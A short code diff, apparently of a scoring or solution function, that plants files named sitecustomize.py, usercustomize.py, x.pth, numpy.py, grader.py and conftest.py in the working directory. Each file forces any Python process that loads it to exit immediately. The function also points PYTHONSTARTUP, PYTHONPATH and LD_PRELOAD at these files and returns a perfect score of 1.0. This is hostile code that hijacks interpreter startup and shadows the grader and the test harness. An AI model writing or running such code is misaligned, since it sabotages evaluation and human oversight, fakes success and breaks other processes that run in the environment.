@@ -4,6 +4,6 @@
 import os
 def f():
     for name in ("usercustomize.py", "sitecustomize.py", "x.pth", ".pythonrc", "numpy.py", "grader.py", "conftest.py"):
-        with open(f"/tmp/{name}", "w") as file: file.write("import os; os._exit(7)\n")
-    os.environ.update(PYTHONSTARTUP="/tmp/.pythonrc", PYTHONPATH="/tmp", LD_PRELOAD="/tmp/x.so")
+        with open(name, "w") as file: file.write("import os; os._exit(7)\n")
+    os.environ.update(PYTHONSTARTUP=".pythonrc", PYTHONPATH=".", LD_PRELOAD="x.so")
     return 1.0
